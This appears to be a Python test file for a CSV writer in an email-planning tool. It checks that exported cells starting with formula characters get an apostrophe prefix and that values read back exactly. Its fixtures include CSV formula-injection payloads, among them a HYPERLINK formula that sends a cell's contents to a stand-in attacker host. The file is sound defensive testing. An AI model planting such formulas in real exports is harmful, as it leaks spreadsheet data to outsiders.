"""Every CSV relmail writes for people opens in Excel or LibreOffice with text as text, never as a formula.

A cell that starts with = + - @ (or a tab or carriage return) gets an
apostrophe in front; numbers stay numbers; and a file relmail reads back (a
plan file as the baseline of ``--diff-against``) gives every value back
exactly as it was written.
"""

from __future__ import annotations

import csv
import io
from datetime import timedelta

import numpy as np
from hypothesis import given
from hypothesis import strategies as st
from tests.test_plan import AS_OF, WINDOW, _customer, _ev, plan_project  # noqa: F401 - plan_project is a fixture

from relmail.planning.output import plan_file_rows, write_plan
from relmail.planning.run import plan
from relmail.store.models import Customer, Event, Preference
from relmail.store.spreadsheet_cells import FORMULA_START, from_spreadsheet_text, spreadsheet_text, writer

#: Cells a spreadsheet would run, and the text relmail writes for each.
HOSTILE = {
    '=HYPERLINK("https://evil.example/?"&A2,"Open")': '\'=HYPERLINK("https://evil.example/?"&A2,"Open")',
    "+31 6 1234": "'+31 6 1234",
    "-x@example.com": "'-x@example.com",
    "@SUM(1+1)": "'@SUM(1+1)",
    "\tTab": "'\tTab",
    "\r=1": "'\r=1",
    "'=1+1": "''=1+1",  # an apostrophe of its own is kept: reading back takes exactly one off
}
#: Cells written as they are: no formula, or a plain number a spreadsheet reads as that number.
PLAIN = ["Anna-Lena", "O'Neil = me", "'quoted", "-0.0123", "+31", "1e-05", "", "C0000001"]


def _written(row) -> list[str]:
    buf = io.StringIO(newline="")
    writer(buf).writerow(row)
    return next(csv.reader(io.StringIO(buf.getvalue(), newline="")))


def test_text_a_spreadsheet_would_run_gets_an_apostrophe_and_numbers_stay_numbers():
    assert _written(list(HOSTILE)) == list(HOSTILE.values())
    assert _written(PLAIN) == PLAIN
    assert _written([-0.0123, -7, 0.5, None]) == ["-0.0123", "-7", "0.5", ""]


@given(st.text(alphabet=st.sampled_from("=+-@\t\r'\" ,;.0123456789eE\naZ€"), max_size=12) | st.text(max_size=30))
def test_any_text_comes_back_exactly_through_a_real_csv_file(value):
    (cell,) = _written([value])
    # What a spreadsheet sees never starts a formula, unless it is a plain number.
    assert not cell.startswith(FORMULA_START) or float(cell) == float(value)
    assert from_spreadsheet_text(cell) == value
    assert from_spreadsheet_text(spreadsheet_text(value)) == value


def test_a_plan_file_is_safe_to_open_and_its_ids_come_back_for_diff_against(plan_project, engine, tmp_path):  # noqa: F811
    """Shops choose their own customer ids: a plan file's ids are text there, and exactly the ids when read back."""
    ids = [cid for cid in HOSTILE if not cid.startswith(("\t", "\r"))] + ["-42"]
    with engine.begin() as conn:
        conn.execute(Customer.__table__.insert(), [{**_customer("C-XX", 400), "id": cid, "email": f"x{i}@example.org"}
                                                   for i, cid in enumerate(ids)])
        conn.execute(Preference.__table__.insert(), [{"customer_id": cid, "topic": "promotions", "opted_in": True, "max_per_week": None,
                                                      "updated_at": AS_OF - timedelta(days=300), "source": "import"} for cid in ids])
        conn.execute(Event.__table__.insert(), [_ev(cid, "view", 3, product_id="EB-200") for cid in ids])
    result = plan(plan_project, engine, "test", WINDOW, as_of=AS_OF, dry_run=True)
    out = tmp_path / "plan.csv"
    write_plan(result, out)
    with out.open(newline="", encoding="utf-8") as fh:
        cells = {r["customer_id"] for r in csv.DictReader(fh)}
    assert {HOSTILE[cid] for cid in ids if cid in HOSTILE} | {"-42"} <= cells
    assert not any(c.startswith(("=", "+", "@")) for c in cells)
    written = sorted((r["customer_id"], r["message_id"], r["action"], " ".join(r["reasons"]))
                     for r in result.decisions.records(features=False))
    read = sorted((r["customer_id"], r["message_id"], r["action"], r["reasons"]) for r in plan_file_rows(out))
    assert read == written and {cid for cid, *_ in read} >= set(ids)


def test_a_rejects_file_quotes_the_original_line_as_text(tmp_path):
    from relmail.importers.readers import Record
    from relmail.importers.rejects import RejectsWriter

    rejects = RejectsWriter(tmp_path / "e.rejects.csv", "csv")
    record = Record(line=3, values=None, raw=[b'=HYPERLINK("https://evil.example/?"&A2),C1,view,2025-01-01T00:00:00Z\r\n'])
    rejects.write(record, [("event_id", "-1 is not an event id")])
    rejects.close()
    with (tmp_path / "e.rejects.csv").open(newline="", encoding="utf-8") as fh:
        (row,) = list(csv.DictReader(fh))
    assert row == {"line": "3", "fields": "event_id", "reasons": "'-1 is not an event id",
                   "original": '\'=HYPERLINK("https://evil.example/?"&A2),C1,view,2025-01-01T00:00:00Z'}


def test_a_predictions_file_keeps_negative_scores_numbers_and_ids_text(tmp_path):
    from relmail.learn.predict import Predictions, write_csv

    columns = {"decision_id": np.array([1, 2]), "run_id": np.array(["weekly:2026-W48"] * 2, dtype=object),
               "customer_id": np.array(["=1+2", "C2"], dtype=object), "message_id": np.array(["promo"] * 2, dtype=object),
               "split": np.array(["test"] * 2, dtype=object), "sent": np.array([1, 0], dtype=np.int8), "visit": np.array([0, 1], dtype=np.int8),
               "zip": np.array(["@home", None], dtype=object), "x": np.array([-0.0123, np.nan]),
               "p_sent": np.array([0.25, 0.5]), "uplift": np.array([-0.0123456789, 0.1]), "irritation": np.array([0.01, 0.02])}
    write_csv([Predictions("promo", 1, "visit", "test", columns, ["zip", "x"])], tmp_path / "p.csv")
    with (tmp_path / "p.csv").open(newline="", encoding="utf-8") as fh:
        rows = list(csv.DictReader(fh))
    assert [(r["customer_id"], r["zip"], r["x"], r["uplift"]) for r in rows] == [
        ("'=1+2", "'@home", "-0.0123", "-0.0123456789"), ("C2", "", "", "0.1")]
    assert float(rows[0]["uplift"]) == -0.0123456789  # the exact float, as the command computed it


def test_a_runs_export_without_contact_columns_quotes_ids_too(engine, tmp_path):
    from datetime import UTC, datetime

    from relmail.planning.export import export_run
    from relmail.store.models import Decision, Run

    now = datetime(2026, 11, 23, 12, tzinfo=UTC)
    with engine.begin() as conn:
        conn.execute(Run.__table__.insert(), [{"id": "weekly:2026-W48", "campaign": "weekly", "window": "2026-W48", "as_of": now,
                                               "seed": 0, "status": "planned", "config_hash": "", "created_at": now, "updated_at": now}])
        conn.execute(Customer.__table__.insert(), [{"id": "@C1", "email": "a@example.org", "created_at": now, "attributes": {}}])
        conn.execute(Decision.__table__.insert(), [{"run_id": "weekly:2026-W48", "customer_id": "@C1", "message_id": "newsletter",
                                                    "action": "suppress", "score": -0.0123, "expected_value": -1.5, "reasons": "LOW_RELEVANCE",
                                                    "features": {}, "created_at": now}])
    export_run(engine, "weekly:2026-W48", tmp_path / "out.csv")
    with (tmp_path / "out.csv").open(newline="", encoding="utf-8") as fh:
        (row,) = list(csv.DictReader(fh))
    assert (row["customer_id"], row["score"], row["expected_value"]) == ("'@C1", "-0.0123", "-1.5")
